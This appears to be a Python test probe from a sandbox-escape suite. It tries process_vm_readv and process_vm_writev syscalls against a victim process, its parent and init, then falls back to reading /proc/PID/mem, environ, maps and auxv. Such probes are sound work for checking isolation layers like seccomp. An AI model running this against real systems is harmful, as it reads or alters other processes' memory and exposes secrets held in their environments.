"""Reading and writing another process's memory: process_vm_readv, process_vm_writev, /proc/PID/mem.

layer: seccomp
walls_off: true
"""
import ctypes
import os
import struct

import intel
from tools import each, first, read, syscall


def vm(number, pid):
    here = ctypes.create_string_buffer(64)
    local = struct.pack("QQ", ctypes.addressof(here), 8)
    return syscall(number, pid, local, 1, struct.pack("QQ", intel.VICTIM_ADDRESS, 8), 1, 0), here.raw[:8]


def attack():
    pids = (intel.VICTIM, os.getppid(), 1)
    said = each(vm, [(number, pid) for number in (310, 311) for pid in pids])
    if said.startswith("ESCAPED"):
        return said
    return first(said, each(read, [f"/proc/{pid}/{name}" for pid in pids for name in ("mem", "environ", "maps", "auxv")]))
